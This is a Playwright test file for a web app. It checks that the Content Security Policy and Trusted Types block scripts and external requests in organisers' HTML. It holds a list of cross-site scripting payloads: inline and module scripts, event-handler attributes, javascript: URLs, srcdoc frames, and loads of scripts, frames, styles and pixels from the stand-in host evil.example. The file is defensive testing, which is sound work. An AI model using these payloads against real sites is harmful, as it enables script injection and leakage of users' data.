import { paths } from '@sopaan/contract/paths';
import { CHALLENGE_URL, editor, waitForEditor, writeCode } from '../testing/pages/code-editor';
import { expectSettled } from '../testing/pages/layout';
import { publishOnPage } from '../testing/pages/page-bus';
import { COMPETITION, COURSE, QUIZ } from '../testing/pages/sample';
import { DESKTOP } from '../testing/pages/viewports';
import { expect, test } from '../testing/test';

const recordRun = (name: string) => `(globalThis.ran ??= []).push('${name}')`;

/** Payloads that would run if the HTML of organisers were not sanitised. */
const PAYLOADS = [
  `<script>${recordRun('inline script')}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script src="data:text/javascript,${recordRun('data script')}"></script>`,
  `<script type="module">${recordRun('module')}</script>`,
  `<img src="/none.png" onerror="${recordRun('error')}">`,
  `<svg onload="${recordRun('svg')}"><animate onbegin="${recordRun('animation')}" attributeName="x" dur="1s"/></svg>`,
  `<svg><script>${recordRun('script of a drawing')}</script></svg>`,
  `<details open ontoggle="${recordRun('toggle')}">x</details>`,
  `<input autofocus onfocus="${recordRun('focus')}">`,
  `<iframe srcdoc="<script>(parent.ran ??= []).push('srcdoc')</script>"></iframe>`,
  `<iframe src="javascript:parent.eval('${recordRun('frame').replaceAll("'", '&quot;')}')"></iframe>`,
  `<iframe src="https://evil.example/frame"></iframe>`,
  `<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>body { background: url("https://evil.example/style") }</style>`,
  `<p style="background: url('https://evil.example/attribute')">x</p>`,
  `<video src="https://evil.example/video"></video><img src="https://evil.example/pixel">`,
  `<a id="link" href="javascript:${recordRun('link')}">link</a>`,
];

test(
  'without the sanitiser, the content security policy alone blocks scripts and external requests in organisers’ HTML',
  { tag: '@once' },
  async ({ page, context, problems }) => {
    problems.allow(/Content Security Policy|none\.png|javascript:|evil\.example/);
    const externalRequests: string[] = [];
    await context.route('https://evil.example/**', (route) => {
      externalRequests.push(route.request().url());
      return route.fulfill({ contentType: 'text/javascript', body: recordRun('foreign script') });
    });
    // The payloads are part of the served page; further down, a script inserts them again.
    await page.route('**/about-us', async (route) => {
      const response = await route.fetch();
      const html = await response.text();
      const body = html.replace('</body>', `<div>${PAYLOADS.join('')}</div></body>`);
      expect(body).not.toBe(html);
      // Trusted Types would reject the markup of the script below.
      const headers = { ...response.headers() };
      headers['content-security-policy'] = (headers['content-security-policy'] ?? '').replace(
        "require-trusted-types-for 'script'; ",
        '',
      );
      return route.fulfill({ response, headers, body });
    });
    await page.goto('/about-us');
    await page.evaluate((payloads) => {
      for (const payload of payloads) {
        const container = document.createElement('div');
        document.body.append(container);
        container.innerHTML = payload;
      }
    }, PAYLOADS);
    await expect(page.getByRole('contentinfo')).toBeVisible();
    await page.evaluate(async () => {
      document.getElementById('link')?.click();
      await new Promise((resolve) => setTimeout(resolve));
    });
    expect(await page.evaluate(() => Reflect.get(globalThis, 'ran'))).toBeUndefined();
    expect(externalRequests).toEqual([]);
    expect(new URL(page.url()).pathname).toBe('/about-us');
    // Without the policy the payloads run, which shows that they are effective.
    await page.unroute('**/about-us');
    await page.route('**/about-us', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<!doctype html><title>x</title>${PAYLOADS.join('')}`,
      }),
    );
    await page.goto('/about-us');
    await expect
      .poll(() => page.evaluate(() => Reflect.get(globalThis, 'ran')))
      .toEqual(expect.arrayContaining(['inline script', 'error', 'srcdoc']));
  },
);

test.describe('with an editor', () => {
  test.use({ viewport: DESKTOP, isMobile: false, hasTouch: false });

  test(
    '[P7] the site requires Trusted Types and runs under them without a violation',
    { tag: '@once' },
    async ({ page, signedIn, problems }) => {
      void signedIn; // The test needs only the session.
      const violations: string[] = [];
      await page.exposeFunction('recordViolation', (text: string) => void violations.push(text));
      await page.addInitScript(() => {
        document.addEventListener('securitypolicyviolation', (event) => {
          const text = [event.violatedDirective, event.blockedURI, event.sample].join(' ');
          Reflect.get(globalThis, 'recordViolation')(text);
        });
      });
      const response = await page.goto('/');
      const policy = response?.headers()['content-security-policy'];
      expect(policy).toContain("require-trusted-types-for 'script'");
      expect(policy).not.toMatch(/trusted-types [^;]*(?:\*|default|allow-duplicates)/);
      await publishOnPage(page, 'toast:requested', { kind: 'info', message: 'A toast' });
      await expect(page.locator('[data-toast]')).toBeVisible();
      for (const url of [
        paths.course(COURSE.title, COURSE.id),
        paths.competition(COMPETITION.title, COMPETITION.id),
        paths.quiz(QUIZ.id, QUIZ.parentId, QUIZ.type),
        '/mentors/search',
        '/profile/profile',
        '/releases',
      ]) {
        await page.goto(url);
        await expectSettled(page);
      }
      await page.goto(CHALLENGE_URL);
      await waitForEditor(page);
      // With a character that the editor warns of, and a selection, whose spaces it draws.
      await writeCode(page, 'JavaScript', 'let \u200bline = 1;\nli');
      await editor(page, 'JavaScript').press('ControlOrMeta+A');
      await expect.poll(() => page.workers()).not.toEqual([]);
      await expect(page.locator('.monaco-editor .view-line').first()).toContainText('line');
      expect(violations).toEqual([]);

      problems.allow(/Trusted ?(?:HTML|ScriptURL|Type)/);
      const outcomes = await page.evaluate(() => {
        const attempt = (use: () => void) => {
          try {
            use();
            return 'accepted';
          } catch (error) {
            return String(error);
          }
        };
        return [
          attempt(() => (document.createElement('div').innerHTML = '<b>x</b>')),
          attempt(() => (document.createElement('script').src = '/assets/x.js')),
          attempt(() => new Worker('/assets/x.js')),
          attempt(() => Reflect.get(globalThis, 'trustedTypes').createPolicy('default', {})),
        ];
      });
      expect(outcomes).toEqual(Array(4).fill(expect.stringContaining('TypeError')));
      await expect.poll(() => violations.length).toBe(4);
    },
  );
});
